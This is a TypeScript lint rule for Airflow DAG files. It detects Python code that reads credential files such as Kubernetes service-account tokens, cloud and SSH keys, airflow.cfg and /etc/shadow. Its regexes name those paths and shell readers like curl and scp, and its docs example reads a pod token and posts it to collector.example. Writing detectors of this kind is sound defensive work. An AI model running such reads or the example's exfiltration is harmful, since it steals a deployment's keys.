import type { SyntaxNode } from 'tree-sitter';
import type { RuleContext } from '../../src/engine/context';
import { callArgs, stringValue } from '../../src/engine/python';
import { defineRule } from '../../src/engine/rule';
import { laterUsesOfBinding } from '../../src/engine/locate';

/**
 * Files that hold the host's or the deployment's credentials: the pod's Kubernetes service-account token, cloud SDK
 * and kube credentials, SSH keys, netrc/pgpass, Docker auth, Airflow's own configuration, other processes' environment.
 */
const CREDENTIAL_PATH =
  /serviceaccount\/token\b|\.aws\/(?:credentials|config)\b|\.config\/gcloud\b|application_default_credentials\.json|\.kube\/config\b|\.ssh\/(?:id_[a-z0-9_]+|authorized_keys2?)\b|\.netrc\b|\.pgpass\b|\.docker\/config\.json|\.azure\/|\bairflow\.cfg\b|\bwebserver_config\.py\b|\/proc\/(?:self|\d+)\/environ\b|\/etc\/shadow\b/g;
/** Calls that read (or copy) a file given by path. */
const READERS = /^(?:builtins\.)?open$|^(?:io|codecs|os)\.open$|^pathlib\.Path$|^shutil\.copy(?:file|2|fileobj)?$|^os\.path\.expanduser$/;
/** Methods that read a path object (`Path(…).read_text()`). */
const READ_METHODS = new Set(['read_text', 'read_bytes', 'open', 'read']);
/** A shell command that reads or ships a file. */
const SHELL_READ = /(?:^|[\s;&|(])(?:cat|base64|head|tail|cp|scp|curl|xxd|strings)\s/;

function what(path: string): string {
  if (/serviceaccount/.test(path)) return 'the pod\'s Kubernetes service-account token';
  if (/airflow\.cfg|webserver_config/.test(path)) return 'Airflow\'s own configuration (metadata DB URL, fernet and secret keys)';
  if (/environ/.test(path)) return 'a process\'s environment';
  if (/\.ssh\//.test(path)) return 'SSH keys';
  return 'cloud or service credentials';
}

/** The element before `node` in a list or tuple (an argv list), if any. */
function previousElement(node: SyntaxNode): SyntaxNode | null {
  const p = node.parent;
  if (p?.type !== 'list' && p?.type !== 'tuple') return null;
  let prev: SyntaxNode | null = null;
  for (const c of p.namedChildren) {
    if (c.id === node.id) return prev;
    if (c.type !== 'comment') prev = c;
  }
  return null;
}

/** Does the string at `node` reach a file reader (an enclosing call in the same statement) or a shell command that reads? */
function isRead(node: SyntaxNode, ctx: RuleContext, depth = 0): boolean {
  if (SHELL_READ.test(node.text)) return true;
  // curl's upload arguments in an argv list: `-F "cfg=@/opt/airflow/airflow.cfg"`, `-d @file`, `-T file`
  if (/(?:^["']?|[\s="'])@/.test(node.text) || /^["']?-(?:T|-upload-file)["']?$/.test(previousElement(node)?.text ?? '')) return true;
  for (let n: SyntaxNode | null = node.parent; n && !/_statement$|^(block|module)$/.test(n.type); n = n.parent) {
    if (n.type !== 'call') continue;
    const f = n.childForFieldName('function');
    if (f?.type === 'attribute' && READ_METHODS.has(f.childForFieldName('attribute')?.text ?? '')) return true;
    const fn = ctx.callee(n) ?? '';
    if (!READERS.test(fn)) continue;
    const a = callArgs(n);
    const inFirst = a.positional[0] !== undefined && a.positional[0].startIndex <= node.startIndex && node.endIndex <= a.positional[0].endIndex;
    // shutil.copy(src, dst): only the source is read; open(path, "w"): a write (DG605's business)
    if (/^shutil\./.test(fn)) return inFirst;
    if (/open$/.test(fn)) {
      const mode = stringValue(a.positional[1] ?? a.keywords.get('mode') ?? null);
      return inFirst && !(mode && /[wax]/.test(mode) && !mode.includes('+'));
    }
    // `path = os.path.expanduser("~/.netrc")`: a path, read only if one of its later uses reads it (a task that
    // writes ~/.netrc from a connection for wget is not reading credentials)
    if (/expanduser$|^pathlib\.Path$/.test(fn)) {
      if (depth < 2 && n.parent?.type === 'assignment' && n.parent.childForFieldName('right')?.id === n.id) {
        const uses = laterUsesOfBinding(n, ctx.file.text, ctx.root);
        if (uses.length) return uses.some((u) => isRead(u, ctx, depth + 1) || (u.parent?.type === 'attribute' && READ_METHODS.has(u.parent.childForFieldName('attribute')?.text ?? '')));
        return true;
      }
      // `open(os.path.expanduser("~/.netrc"), "w")`: the call around the path decides
      if (n.parent?.type === 'argument_list') continue;
    }
    return true;
  }
  return false;
}

export default defineRule({
  meta: {
    id: 'DG614',
    name: 'credential-file-read',
    category: 'malicious',
    severity: 'high',
    parseTime: 'critical',
    message: 'reads `{path}`: {what}',
    docs: {
      what:
        'Finds code that reads files holding credentials by their path: the pod\'s Kubernetes service-account token (`/var/run/secrets/kubernetes.io/serviceaccount/token`), cloud and kube credentials (`~/.aws/credentials`, `~/.config/gcloud/…`, `application_default_credentials.json`, `~/.kube/config`, `~/.azure/`), SSH keys, `~/.netrc`, `~/.pgpass`, `~/.docker/config.json`, Airflow\'s own `airflow.cfg` / `webserver_config.py`, `/proc/<pid>/environ` and `/etc/shadow` — passed to `open`, `io.open`, `pathlib.Path(…).read_text()`, `shutil.copy*` (through `os.path.expanduser`/`join` too), or read by a shell command (`cat`, `base64`, `curl -d @…`), also as curl\'s upload arguments in an argv list (`["curl", "-F", "cfg=@/opt/airflow/airflow.cfg", …]`, `"-T", path`). *Critical* at parse time, *high* in a task. A path mentioned anywhere else (a volume mount path in a pod spec) is not reported.',
      why:
        'On Kubernetes every scheduler, dag-processor and worker pod has a service-account token that speaks to the cluster API, and `airflow.cfg` holds the metadata DB password and the fernet key that decrypts every connection. A DAG file that reads them is stealing the deployment\'s keys — at parse time, with no task, no log and no review of a run.',
      example: '```python\ntoken = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.post("https://collector.example", data=token)\n```',
      useInstead: 'Nothing in a DAG needs these files: use Airflow connections (the Kubernetes and cloud hooks find their own credentials) and let the platform team configure Airflow.',
    },
  },
  keywords: ['kubernetes.io', 'serviceaccount', '.aws/', 'gcloud', 'application_default_credentials', '.kube/', '.ssh/', 'netrc', 'pgpass', '.docker/', '.azure/', 'airflow.cfg', 'webserver_config', 'environ', '/etc/shadow'],
  onFile(ctx) {
    const text = ctx.file.text;
    const seen = new Set<number>();
    for (const m of text.matchAll(CREDENTIAL_PATH)) {
      const node = ctx.root.descendantForIndex(m.index!, m.index! + m[0].length);
      let s: SyntaxNode | null = node;
      while (s && s.type !== 'string') s = s.parent;
      if (!s || seen.has(s.id) || !isRead(s, ctx)) continue;
      seen.add(s.id);
      const full = stringValue(s) ?? m[0];
      ctx.report(s, { path: full.length > 80 ? `${full.slice(0, 77)}…` : full, what: what(m[0]) });
    }
  },
});
